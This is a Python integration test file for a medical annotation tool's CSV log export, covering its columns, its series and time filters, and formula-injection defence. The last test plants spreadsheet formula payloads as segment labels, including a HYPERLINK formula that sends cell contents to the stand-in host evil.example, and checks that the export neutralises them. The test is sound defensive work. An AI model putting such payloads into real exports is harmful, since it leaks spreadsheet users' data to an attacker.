"""GET /api/log.csv: the columns, filters by series and time, no formula injection."""

import csv
import io
from datetime import UTC, datetime

from starlette.testclient import TestClient
from tests.helpers import poll
from tests.integration.support import create_annotation, disc, put_mask, put_segment, upload_series

COLUMNS = (
    "timestamp",
    "user",
    "study_uid",
    "series_uid",
    "slice",
    "labels",
    "action",
    "seg_sop_instance_uid",
    "seg_path",
)


def _rows(client: TestClient, **params: str) -> tuple[list[str], list[dict[str, str]]]:
    response = client.get("/api/log.csv", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    reader = csv.DictReader(io.StringIO(response.text))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def _paint_and_export(client: TestClient, folder: str, label: str) -> str:
    series_uid = upload_series(client, folder)
    aid = create_annotation(client, series_uid)["id"]
    version = put_segment(client, aid, 1, label=label)
    put_mask(client, aid, 1, 0, disc(*_shape(client, series_uid), 20, 20, 8), version)
    response = client.post(f"/api/annotations/{aid}/exports", json={})
    assert response.status_code == 201, response.text
    return series_uid


def _shape(client: TestClient, series_uid: str) -> tuple[int, int]:
    info = client.get(f"/api/series/{series_uid}").json()
    return info["rows"], info["columns"]


def test_columns_and_series_filter(client: TestClient) -> None:
    ct = _paint_and_export(client, "ct_philips_phantom", "Liver")
    mr = _paint_and_export(client, "mr_siemens_t1_sag", "Lesion")
    columns, rows = _rows(client)
    assert set(COLUMNS) <= set(columns)
    assert {r["series_uid"] for r in rows} == {ct, mr}
    export = [r for r in rows if r["series_uid"] == ct and r["seg_sop_instance_uid"]]
    assert len(export) == 1
    assert export[0]["labels"] == "Liver"
    assert export[0]["user"] == "annotator"
    assert export[0]["seg_path"].startswith("instances/")  # relative to the data folder
    assert datetime.fromisoformat(export[0]["timestamp"]).tzinfo is not None
    _, only_mr = _rows(client, series_uid=mr)
    assert only_mr and {r["series_uid"] for r in only_mr} == {mr}
    bad = client.get("/api/log.csv", params={"series_uid": "1.2.x"})
    assert bad.status_code == 400


def test_since_filter(client: TestClient) -> None:
    _paint_and_export(client, "mr_transfer_syntaxes", "Lesion")
    _, earlier = _rows(client)
    last = max(datetime.fromisoformat(r["timestamp"]) for r in earlier)
    # The cut: a moment after every event so far, on the clock that stamps them.
    cut = poll(lambda: (now := datetime.now(UTC)) > last and now, "clock past", interval=0.001)
    later = _paint_and_export(client, "ct_philips_phantom", "Liver")
    _, rows = _rows(client, since=cut.isoformat())
    assert rows and {r["series_uid"] for r in rows} == {later}
    _, none = _rows(client, since="2999-01-01")
    assert none == []
    _, everything = _rows(client, since="2000-01-01")
    assert len(everything) > len(rows)
    assert client.get("/api/log.csv", params={"since": "last tuesday"}).status_code == 400


def test_formula_injection_is_neutralised(client: TestClient) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    series_uid = _paint_and_export(client, "ct_philips_phantom", evil)
    aid = client.get("/api/annotations", params={"series_uid": series_uid}).json()[0]["id"]
    for number, label in ((2, "+SUM(1,2)"), (3, "-1+2"), (4, "@cmd"), (5, "\tTAB"), (6, "\r=1")):
        version = client.get(f"/api/annotations/{aid}").json()["version"]
        response = client.put(
            f"/api/annotations/{aid}/segments/{number}",
            json={"label": label},
            headers={"If-Match": str(version)},
        )
        if response.status_code == 400:  # labels may refuse control characters outright
            continue
        assert response.status_code == 201, response.text
    text = client.get("/api/log.csv").text
    _, rows = _rows(client)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert any(r["labels"] == "'" + evil for r in rows)
    assert "'+SUM(1,2)" in text
